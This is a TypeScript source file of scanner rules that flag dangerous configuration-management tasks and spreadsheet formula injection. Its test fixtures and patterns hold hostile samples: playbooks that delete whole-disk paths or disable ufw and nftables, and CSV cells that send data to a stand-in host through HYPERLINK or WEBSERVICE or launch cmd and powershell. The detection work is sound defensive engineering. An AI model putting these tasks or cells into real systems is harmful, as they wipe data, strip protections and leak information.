import type { Artifact } from '../artifact.ts'
import { type Hit, type Rule, wholeRule } from '../rule.ts'

const isMachineText = ({ type }: Artifact): boolean =>
  /^(?:general|config_change|code_diff|patch)$/.test(type)

/** The lines that would be there afterwards; of a diff those that were added. */
const rowsOf = ({ text, files, lines }: Artifact): string[] =>
  files.length > 0
    ? lines.filter(({ change }) => change !== 'removed').map(line => line.text)
    : text.split('\n').map(row => row.slice(0, 1000))

/** A place that is the whole disk when its variable is empty, or is a directory of the system. */
const emptyablePath =
  /^["']?(?:\/+|\/\*|(?:\{\{[^}\n]{1,80}\}\}|\$\{?[\w:]{1,40}\}?)\/\*?|[^{\s]{0,60}(?:\{\{[^}\n]{1,40}\}\}[\w/.-]{0,40})?\{\{[^}\n]{1,60}\bdefault\(\s*(?:''|"")[^}\n]{0,20}\}\}|\{\{\s?(?:pillar|grains|salt)[^}\n]{0,60},\s?(?:''|"")\s?\)\s?\}\}\/?|\/(?:etc|usr|var|home|boot|opt|srv|lib))\/?["']?\s*$/

const firewall =
  /\b(?:firewalld|ufw|nftables|iptables|mpssvc|windefend|fail2ban|auditd|apparmor|clamav\w*|crowdstrike|falcon-sensor|selinux)\b/i
const stopped =
  /\b(?:state|ensure)\s*(?::|=>|=)\s*["']?(?:stopped|absent|purged|disabled)\b|\bservice\.(?:dead|disabled)\b|\benable[d]?\s*(?::|=>)\s*["']?(?:no|false)\b/i

/** What a configuration manager would do on every machine that it reaches. */
export const playbookRules: readonly Rule[] = [
  wholeRule({
    id: 'playbook-danger',
    category: 'configuration',
    type: 'general',
    severity: 'blocker',
    fix: 'Fail when the variable is empty, name the whole path, and leave the firewall up.',
    hits: [
      '- hosts: all\n  tasks:\n    - name: clean\n      file:\n        path: "{{ app_dir }}/"\n        state: absent',
      '- hosts: db\n  tasks:\n    - file: path="{{ root }}/" state=absent',
      '- hosts: all\n  tasks:\n    - shell: systemctl disable --now ufw',
      '- hosts: all\n  tasks:\n    - file:\n        path: "{{ base }}/{{ sub | default(\'\') }}"\n        state: absent',
      "cleanup:\n  file.absent:\n    - name: \"{{ pillar.get('dir', '') }}/\"",
      'file { "${dir}/":\n  ensure => absent,\n  force  => true,\n}',
      '- hosts: web\n  tasks:\n    - service:\n        name: ufw\n        state: stopped',
      "service { 'nftables':\n  ensure => stopped,\n}",
    ],
    misses: [
      '- hosts: all\n  tasks:\n    - name: clean\n      file:\n        path: /opt/app/releases/2023-01\n        state: absent',
      '- hosts: all\n  tasks:\n    - file:\n        path: "{{ app_dir }}/tmp/cache"\n        state: absent',
      '- hosts: web\n  tasks:\n    - service:\n        name: ufw\n        state: started',
      '- hosts: web\n  tasks:\n    - service:\n        name: nginx\n        state: stopped',
    ],
    see(artifact) {
      const { text } = artifact
      if (
        !isMachineText(artifact) ||
        !/\babsent\b|\bstopped\b|\bufw\b|\bsystemctl\b|\bservice\.(?:dead|disabled)\b/.test(text)
      )
        return []
      const rows = rowsOf(artifact)
      const hits: Hit[] = []
      for (const [nth, row] of rows.entries()) {
        const path =
          /^\s*(?:-\s)?(?:path|dest|name):\s*(\S.*)$/.exec(row)?.[1] ??
          /\bpath=("[^"\n]{0,200}"|'[^'\n]{0,200}'|\S+)/.exec(row)?.[1] ??
          /^\s*file\s*\{\s*(\S{1,120}):\s*$/.exec(row)?.[1]
        const around = rows.slice(Math.max(0, nth - 3), nth + 5).join('\n')
        if (
          path !== undefined &&
          emptyablePath.test(path.trim()) &&
          /\bfile\.absent\b|\bstate[:=]\s*["']?absent\b|\bensure\s*=>\s*["']?absent\b/.test(around)
        )
          hits.push({
            detail: `Where its variable is empty it deletes everything: ${row.trim().slice(0, 60)}`,
            place: { line: nth + 1 },
          })
        if (
          /^\s*(?:-\s)?(?:ansible\.builtin\.)?(?:shell|command|cmd\.run|exec):?\s[^\n]{0,80}\b(?:systemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?(?:firewalld|ufw|nftables|auditd|fail2ban)|ufw\s+disable|iptables\s+-F|setenforce\s+0)\b/.test(
            row,
          )
        )
          hits.push({
            detail: `What guards the machines is put out of work: ${row.trim().slice(0, 60)}`,
            place: { line: nth + 1 },
            severity: 'high',
          })
        if (
          /^\s*(?:-\s)?name:|\bservice:\s+name=|^\s*service\s*\{/.test(row) &&
          firewall.test(row) &&
          stopped.test(rows.slice(nth, nth + 4).join('\n'))
        )
          hits.push({
            detail: `What guards the machines is put out of work: ${row.trim().slice(0, 60)}`,
            place: { line: nth + 1 },
            severity: 'high',
          })
      }
      return hits
    },
  }),
  wholeRule({
    id: 'table-formula',
    category: 'injection',
    type: 'general',
    severity: 'high',
    fix: 'Put an apostrophe before cells that begin with =, +, - or @, or reject them.',
    hits: [
      'id,name\n1,"=HYPERLINK(""http://x.test/?c=""&A1,""click"")"',
      "a;b\n1;=cmd|'/C calc'!A0",
      'a\tb\n1\t+WEBSERVICE("http://x.test/"&B2)',
      "name,note\nEve,@SUM(1+1)*cmd|'/C powershell'!A0",
    ],
    misses: [
      'id,name,delta\n1,Anna,-4\n2,Bob,+3',
      'id,sum\n1,=A1+B1\n2,"=SUM(A1:A9)"',
      'Cells such as =SUM(A1:A3) are calculated; the handle is @anna.',
    ],
    see({ text, type }) {
      if (type !== 'general' && type !== 'agent_output') return []
      if (
        !/[=+@-]/.test(text) ||
        !/HYPERLINK|WEBSERVICE|IMPORT|IMAGE|DDE|cmd|powershell|mshta|rundll/i.test(text)
      )
        return []
      return text.split('\n').flatMap((row, nth): Hit[] =>
        /(?:^|[,;\t])\s{0,3}["']?\s{0,3}[=+@-](?:HYPERLINK|WEBSERVICE|IMPORT(?:XML|DATA|HTML|FEED|RANGE)|IMAGE|DDE\w*)\s{0,3}\(|(?:^|[,;\t])\s{0,3}["']?[=+@-][^,;\t\n]{0,40}\b(?:cmd|powershell|mshta|rundll32|msexcel|dde)(?:\.exe)?\s?\|/i.test(
          row.slice(0, 2000),
        )
          ? [
              {
                detail: `A cell runs when the table is opened: ${row.trim().slice(0, 60)}`,
                place: { line: nth + 1 },
              },
            ]
          : [],
      )
    },
  }),
]
